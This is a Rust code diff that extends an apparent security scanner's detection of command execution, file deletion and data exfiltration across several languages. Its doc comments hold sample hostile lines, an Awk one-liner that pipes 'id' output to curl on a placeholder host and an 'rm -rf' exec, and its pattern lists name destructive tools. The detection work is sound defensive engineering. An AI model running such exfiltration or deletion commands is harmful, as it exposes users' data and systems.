@@ -34,6 +34,10 @@ pub(crate) fn judge(
     };
     judge.calls_together(&lower);
     if judge.calls.runs {
+        for command in listed_words(text) {
+            analysis.command_text(&command, judge.span, judge.findings);
+        }
+        judge.asks_and_sends(language, text, &lower);
         for command in super::joined::commands(text) {
             analysis.command_text(&command, judge.span, judge.findings);
         }
@@ -42,7 +46,9 @@ pub(crate) fn judge(
         judge.literal(literal, &lower);
     }
     for line in lower.lines().filter(|_| language.is_none()).take(64) {
-        if let Some((_, command)) = line.split_once("spawn ") {
+        let told = line.split_once("spawn ").map(|(_, command)| command);
+        let told = told.or_else(|| line.trim_start().strip_prefix("exec "));
+        if let Some(command) = told {
             analysis.command_text(command, judge.span, judge.findings);
         }
     }
@@ -121,6 +127,13 @@ const RUNS: &[&str] = &[
     "command::new",
     "callcommand",
     "shellexecute",
+    "os:cmd",
+    "\".!",
+    "run-program",
+    "do shell script",
+    "shell-command",
+    "run(`",
+    "launchedprocess",
 ];
 const SENDS: &[&str] = &[
     ":send(",
@@ -220,6 +233,10 @@ const DELETES: &[&str] = &[
     "fileutils.rm",
     "os.remove",
     "delete(",
+    "rm(\"",
+    "rm('",
+    "delete-directory",
+    "delete-file",
 ];
 
 struct Judge<'a> {
@@ -298,6 +315,31 @@ impl Judge<'_> {
         }
     }
 
+    /// `"id" | getline x; system("curl host/?" x)`
+    fn asks_and_sends(&mut self, language: Option<Language>, text: &str, lower: &str) {
+        if language != Some(Language::Awk) || !lower.contains("getline") {
+            return;
+        }
+        let first = |literal: &'_ str| {
+            literal
+                .split_ascii_whitespace()
+                .next()
+                .unwrap_or_default()
+                .to_owned()
+        };
+        let programs: Vec<String> = literals(text).take(64).map(first).collect();
+        let asks = programs
+            .iter()
+            .any(|program| Group::Tells.has(program) || program == "cat");
+        let sends = programs
+            .iter()
+            .any(|program| Group::Fetchers.has(program) || Group::Streams.has(program));
+        if asks && sends {
+            let reason = "sends what a command tells to another machine";
+            self.findings.add(Rule::Exfiltration, self.span, reason);
+        }
+    }
+
     /// A text in quotes: a URL, a path, or a command.
     fn literal(&mut self, literal: &str, lower: &str) {
         if hosts::is_url(literal) {
@@ -350,6 +392,23 @@ impl Judge<'_> {
     }
 }
 
+/// Commands given word by word: `exec "rm", "-rf", "/x"`.
+fn listed_words(text: &str) -> Vec<String> {
+    let literals: Vec<&str> = literals(text).take(64).collect();
+    let named = |literal: &str| {
+        let name = literal.rsplit('/').next().unwrap_or_default();
+        Group::WorthHiding.has(name)
+            || name.starts_with("mkfs")
+            || matches!(name, "shred" | "shutdown" | "reboot")
+    };
+    let starts = literals
+        .iter()
+        .enumerate()
+        .filter(|(_, literal)| named(literal));
+    let join = |(at, _): (usize, &&str)| literals[at..literals.len().min(at + 6)].join(" ");
+    starts.take(8).map(join).collect()
+}
+
 /// The insides of quoted strings.
 pub(super) fn literals(text: &str) -> impl Iterator<Item = &str> {
     quoted(text, &['"', '\''])
@@ -361,6 +420,9 @@ fn braced(text: &str) -> impl Iterator<Item = &str> {
         ("q{", '}'),
         ("q(", ')'),
         ("q[", ']'),
+        ("%w[", ']'),
+        ("%w(", ')'),
+        ("%w{", '}'),
         ("qx{", '}'),
         ("%x{", '}'),
     ];
